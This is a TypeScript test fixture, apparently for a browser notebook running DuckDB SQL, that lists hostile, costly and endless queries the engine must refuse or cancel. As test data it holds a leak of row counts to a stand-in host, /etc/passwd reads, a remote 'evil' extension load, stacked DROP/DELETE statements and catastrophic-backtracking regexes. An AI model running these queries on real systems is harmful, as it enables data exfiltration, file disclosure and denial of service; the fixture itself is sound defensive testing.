import { fence, type Hostile } from "./types";

const refused = (idea: string, sql: string): Hostile => ({ idea, markdown: fence("sql", "a", sql), refused: ["a"] });
const HOST = "https://example.invalid";

/** SQL that wants out of the engine, or to take it away from the page. Each of these fails at once. */
export const HOSTILE_SQL: readonly Hostile[] = [
	refused("a file of another host", `SELECT * FROM read_csv('${HOST}/x.csv')`),
	refused("a text of another host", `SELECT * FROM read_text('${HOST}/?leak=' || (SELECT count(*) FROM sources))`),
	refused("a table that is an address", `FROM '${HOST}/x.parquet'`),
	refused("a read inside query()", `SELECT * FROM query('SELECT * FROM read_text(''${HOST}/y'')')`),
	refused("a read put together from pieces", `SELECT * FROM query('SELECT * FROM read_' || 'text(''https:' || '//example.invalid/z'')')`),
	refused("a read inside a macro", `CREATE MACRO f() AS TABLE SELECT * FROM read_text('${HOST}/m')`),
	refused("a table by name, from a variable", "SELECT * FROM query_table('/etc/passwd')"),
	refused("files of this machine", "SELECT * FROM glob('/**')"),
	refused("a file of this machine", "SELECT * FROM read_blob('/etc/passwd')"),
	refused("bytes of another host", `SELECT * FROM parquet_scan('${HOST}/x.parquet')`),
	refused("a database of another host", `ATTACH '${HOST}/x.db' AS x`),
	refused("a file that is written", `COPY (SELECT 1) TO '${HOST}/z'`),
	refused("a file that is written to disk", "COPY sessions TO '/tmp/out.csv'"),
	refused("the whole database, written", "EXPORT DATABASE '/tmp/out'"),
	refused("an extension", "INSTALL httpfs"),
	refused("an extension of another host", `LOAD '${HOST}/evil.duckdb_extension'`),
	refused("a setting", "SET enable_external_access = true"),
	refused("a setting by another word", "PRAGMA enable_external_access"),
	refused("a setting taken back", "RESET lock_configuration"),
	refused("a secret", "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')"),
	refused("a log of everything", "SELECT * FROM enable_logging()"),
	refused("a checkpoint", "SELECT * FROM force_checkpoint('ws')"),
	refused("two statements", "SELECT 1; DROP TABLE sources"),
	refused("two statements, hidden by a quote", "SELECT $x$;$x$; DELETE FROM sources"),
	refused("a table that goes", "DROP TABLE sources"),
	refused("rows that go", "DELETE FROM sources"),
	refused("a write behind WITH", "WITH x AS (SELECT 1) INSERT INTO sources SELECT * FROM sources"),
	refused("a write behind EXPLAIN", "EXPLAIN ANALYZE DELETE FROM sources"),
	refused("another workspace", "USE scratch_checks"),
	refused("a detach", "DETACH ws"),
	refused("a call", "CALL pragma_database_size()"),
	refused("a prepared statement", "PREPARE p AS SELECT 1"),
	refused("a transaction's end", "COMMIT"),
	refused("a hundred million rows", "SELECT * FROM range(100000000)"),
	refused("a cell without a statement", "-- nothing\n/* here */"),
	refused("a circle by the cell's own name", "SELECT * FROM a"),
];

/** SQL that costs time or room and then has a result or a reason: the page goes on meanwhile. */
export const COSTLY_SQL: readonly Hostile[] = [
	{ idea: "one text of a hundred million letters", markdown: fence("sql", "a", "SELECT repeat('x', 100000000) AS x"), refused: ["a"] },
	{ idea: "many long texts", markdown: fence("sql", "a", "SELECT repeat('x', 1000000) AS x FROM range(100)"), refused: ["a"] },
	{ idea: "a pattern to go back over", markdown: fence("sql", "a", "SELECT regexp_matches(repeat('a', 50000), '(a*)*(a*)*(a*)*b') AS m") },
	{ idea: "a pattern that grows", markdown: fence("sql", "a", "SELECT regexp_matches('x', '((((x{100}){100}){100}){100}){100}') AS m"), refused: ["a"] },
	{ idea: "SQL nested without end", markdown: fence("sql", "a", `SELECT ${"(".repeat(5000)}1${")".repeat(5000)}`) },
	{ idea: "comments without end", markdown: fence("sql", "a", "SELECT 1 /* ".repeat(1000)) },
	{ idea: "ten thousand columns", markdown: fence("sql", "a", `SELECT ${Array.from({ length: 10_000 }, (_, n) => `${n} AS c${n}`).join(", ")}`) },
	{ idea: "a statement of a megabyte", markdown: fence("sql", "a", `SELECT ${"1 + ".repeat(250_000)}1 AS n`), refused: ["a"] },
];

/** SQL that never ends. It is cancelled, and the workspace is what it was. */
export const ENDLESS_SQL: readonly Hostile[] = [
	{ idea: "a table that never ends", markdown: fence("sql", "a", "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t) SELECT count(*) FROM t") },
	{ idea: "every row with every row", markdown: fence("sql", "a", "SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range + b.range = -1") },
];
